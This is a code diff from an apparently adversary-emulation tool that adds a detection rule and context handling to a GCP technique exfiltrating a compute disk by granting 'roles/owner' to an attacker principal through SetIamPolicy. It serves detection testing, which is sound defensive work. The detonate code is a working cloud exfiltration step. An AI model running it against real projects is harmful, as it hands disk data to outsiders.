@@ -131,23 +131,30 @@ protoPayload.methodName="v1.compute.snapshots.insert"
 NOT protoPayload.authenticationInfo.principalEmail=~".+@your-domain.tld$"
 ` + codeBlock + `
 `,
-		Platform:                   stratus.GCP,
-		IsIdempotent:               true,
-		MitreAttackTactics:         []mitreattack.Tactic{mitreattack.Exfiltration},
-		Detonate:                   detonate,
-		Revert:                     revert,
+		Platform:              stratus.GCP,
+		IsIdempotent:          true,
+		MitreAttackTactics:    []mitreattack.Tactic{mitreattack.Exfiltration},
+		MitreAttackTechniques: []string{"T1537"},
+		DetectionRule: &stratus.DetectionRule{
+			Selections: []stratus.DetectionSelection{
+				{"gcp.audit.method_name": {"v1.compute.disks.setIamPolicy"}},
+			},
+			FalsePositives: []string{"Disks shared with known principals of the organization"},
+		},
+		DetonateWithContext:        detonate,
+		RevertWithContext:          revert,
 		PrerequisitesTerraformCode: tf,
 	})
 }
 
-func detonate(params map[string]string, providers stratus.CloudProviders) error {
+func detonate(ctx context.Context, params map[string]string, providers stratus.CloudProviders) error {
 	gcp := providers.GCP()
 	diskName := params["disk_name"]
 	zone := params["zone"]
 	attackerPrincipal := gcp_utils.GetAttackerPrincipal()
 
 	log.Println("Exfiltrating " + diskName + " by sharing it with a fictitious attacker")
-	err := shareDisk(gcp, diskName, zone, attackerPrincipal)
+	err := shareDisk(ctx, gcp, diskName, zone, attackerPrincipal)
 	if err != nil {
 		return fmt.Errorf("failed to share disk: %w", err)
 	}
@@ -155,13 +162,13 @@ func detonate(params map[string]string, providers stratus.CloudProviders) error
 	return nil
 }
 
-func revert(params map[string]string, providers stratus.CloudProviders) error {
+func revert(ctx context.Context, params map[string]string, providers stratus.CloudProviders) error {
 	gcp := providers.GCP()
 	diskName := params["disk_name"]
 	zone := params["zone"]
 
 	log.Println("Unsharing " + diskName)
-	err := unshareDisk(gcp, diskName, zone)
+	err := unshareDisk(ctx, gcp, diskName, zone)
 	if err != nil {
 		return fmt.Errorf("unable to unshare disk: %w", err)
 	}
@@ -169,15 +176,15 @@ func revert(params map[string]string, providers stratus.CloudProviders) error {
 	return nil
 }
 
-func shareDisk(gcp *providers.GCPProvider, diskName string, zone string, targetPrincipal string) error {
-	diskClient, err := compute.NewDisksRESTClient(context.Background(), gcp.Options())
+func shareDisk(ctx context.Context, gcp *providers.GCPProvider, diskName string, zone string, targetPrincipal string) error {
+	diskClient, err := compute.NewDisksRESTClient(ctx, gcp.Options())
 	if err != nil {
 		return fmt.Errorf("unable to create compute client: %w", err)
 	}
 
 	roleName := "roles/owner"
 
-	_, err = diskClient.SetIamPolicy(context.Background(), &computepb.SetIamPolicyDiskRequest{
+	_, err = diskClient.SetIamPolicy(ctx, &computepb.SetIamPolicyDiskRequest{
 		Resource: diskName,
 		Project:  gcp.GetProjectId(),
 		Zone:     zone,
@@ -198,13 +205,13 @@ func shareDisk(gcp *providers.GCPProvider, diskName string, zone string, targetP
 	return nil
 }
 
-func unshareDisk(gcp *providers.GCPProvider, diskName string, zone string) error {
-	diskClient, err := compute.NewDisksRESTClient(context.Background(), gcp.Options())
+func unshareDisk(ctx context.Context, gcp *providers.GCPProvider, diskName string, zone string) error {
+	diskClient, err := compute.NewDisksRESTClient(ctx, gcp.Options())
 	if err != nil {
 		return fmt.Errorf("unable to create compute client: %w", err)
 	}
 
-	_, err = diskClient.SetIamPolicy(context.Background(), &computepb.SetIamPolicyDiskRequest{
+	_, err = diskClient.SetIamPolicy(ctx, &computepb.SetIamPolicyDiskRequest{
 		Resource: diskName,
 		Project:  gcp.GetProjectId(),
 		Zone:     zone,